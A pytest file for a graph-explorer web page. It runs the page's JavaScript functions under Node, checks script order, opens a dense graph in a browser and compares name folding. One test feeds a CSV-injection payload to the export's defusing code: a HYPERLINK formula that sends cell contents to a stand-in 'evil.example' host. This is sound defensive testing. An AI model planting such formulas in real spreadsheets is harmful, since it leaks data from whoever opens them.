"""The explorer's scripts: their pure functions under Node's own test runner, the order the page runs them in, and a
page they once failed to open."""

import json
import re
import shutil
import subprocess
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
TEMPLATES = ROOT / "src" / "spacegraph" / "explorer" / "templates"


def node():
    """Node.js, or the calling test fails with how to install it."""
    found = shutil.which("node")
    if not found:
        pytest.fail("Node.js not found: the explorer's JavaScript tests need it. Install it with "
                    "`apt-get install -y nodejs` (Debian/Ubuntu)", pytrace=False)
    return found


def test_the_pure_functions_pass_their_tests_under_node():
    done = subprocess.run([node(), "--test", "tests/js/"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
    assert re.search(r"^# pass [1-9]", done.stdout, re.M) and re.search(r"^# fail 0$", done.stdout, re.M), done.stdout[-2000:]


def test_the_explorer_writes_csv_cells_as_csv_cells_defuses_them():
    """The page's CSV export (pure.js's cell, run by Node) defuses each cell as spacegraph.core.csv_cells does, then quotes
    it as CSV must."""
    from spacegraph.core.csv_cells import defused

    values = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-5", "@SUM(A1:A9)", "\tx", "\rx", "'quoted", "plain", ""]
    program = (f"const pure = require({json.dumps(str(TEMPLATES / 'pure.js'))});"
               f"process.stdout.write(JSON.stringify({json.dumps(values)}.map(pure.cell)));")
    done = subprocess.run([node(), "-e", program], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr

    def quoted(cell):
        return '"' + cell.replace('"', '""') + '"' if re.search(r'[",\n\r]', cell) else cell

    assert json.loads(done.stdout) == [quoted(defused(value)) for value in values]


def test_every_script_of_the_page_is_inlined_once_in_its_order():
    from spacegraph.explorer.render import PAGE_SCRIPTS

    assert sorted(PAGE_SCRIPTS) == sorted(path.name for path in TEMPLATES.glob("*.js"))
    assert len(set(PAGE_SCRIPTS)) == len(PAGE_SCRIPTS)
    # pure.js makes the namespace each part is added to; explorer.js, last, sets the parts up
    assert PAGE_SCRIPTS.index("pure.js") < min(PAGE_SCRIPTS.index(name) for name in PAGE_SCRIPTS
                                               if "parts.push(" in (TEMPLATES / name).read_text(encoding="utf-8"))
    assert PAGE_SCRIPTS[-1] == "explorer.js"


@pytest.mark.slow
@pytest.mark.browser
def test_a_dense_graph_opens_near_enough_to_hold_its_relationships_in_sight(browser, tmp_path):
    """A page of more than 1,000 relationships among few actors opens near them (not far out): the relationships in
    sight are held from the first view on. Its first view once failed ('lookGiven' used before it was made)."""
    import random

    import networkx as nx

    from spacegraph.explorer.render import render_html

    rng = random.Random(1)
    G = nx.MultiDiGraph()
    for i in range(40):
        G.add_node(f"a{i}", label=f"Actor {i}", kind="company")
    for k in range(1100):
        u, v = rng.sample(range(40), 2)
        G.add_edge(f"a{u}", f"a{v}", key=f"p{k}", label="partners with")
    path = render_html(G, tmp_path / "dense.html")
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(path.as_uri())
    deadline = time.monotonic() + 30
    while not page.evaluate("() => Boolean(window.spacegraph && window.spacegraph.isStable())"):
        assert not errors and time.monotonic() < deadline, errors or "the page did not open within 30 s"
        page.wait_for_timeout(50)
    assert errors == []
    assert page.evaluate("window.spacegraph.view().scale") >= 0.3  # near: not the far-out drawing
    held = page.evaluate("Object.keys(window.spacegraph.network.body.edges).length")
    assert 0 < held <= 1100 and page.evaluate("window.spacegraph.visibleEdgeCount()") == 1100
    page.close()


def test_the_page_folds_names_as_the_package_does(kg):
    """pure.js's fold, run by Node, gives spacegraph.core.folding.fold's key for every name of the graph and a few hard ones."""
    from spacegraph.core.folding import fold

    G = kg.to_networkx()
    texts = sorted({str(name) for _, data in G.nodes(data=True) for name in [data.get("label", ""), *data.get("altLabels", [])]})
    texts += ["  Duchâtel ", "Chang’e-5", "Chang'e 5", "Defence Centre", "Chinese Space Programme.", "Straße", "ÉSA",
              "organisation colours", "analyse catalogues", "Ǆ ﬁ ½", "tab\tand\nline", "Λόγος", "İstanbul", "x—y–z", ""]
    program = (f"const pure = require({json.dumps(str(TEMPLATES / 'pure.js'))});"
               f"process.stdout.write(JSON.stringify({json.dumps(texts)}.map(pure.fold)));")
    done = subprocess.run([node(), "-e", program], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    different = [(text, folded, fold(text)) for text, folded in zip(texts, json.loads(done.stdout), strict=True) if folded != fold(text)]
    assert different == []
